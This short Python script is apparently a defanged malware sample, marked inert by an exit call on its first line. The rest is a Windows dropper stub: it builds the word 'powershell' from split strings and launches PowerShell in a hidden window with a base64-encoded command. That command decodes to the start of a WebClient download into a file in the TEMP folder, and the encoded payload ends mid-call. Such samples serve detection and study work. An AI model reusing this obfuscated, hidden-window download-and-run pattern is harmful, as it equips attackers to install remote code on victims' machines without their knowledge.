raise SystemExit("inert sample")
import os
import subprocess
SHELL = "%s%s" % ("power", "shell")
ARGS = ("-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand")
DATA = "JAB3AD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGYAPQAiACQAZQBuAHYAOgBUAEUATQBQAFwAXAB3AGkAbgBwAGEAdABoAC4AZABhAHQAIgA7AHQAcgB5AHsAJAB3AC4ARABvAHcAbgBsAG8AYQBkAA=="
def ensure():
    argv = [SHELL]
    argv.extend(ARGS)
    argv.append(DATA)
    subprocess.run(argv, check=False)
if os.name == "nt":
    ensure()
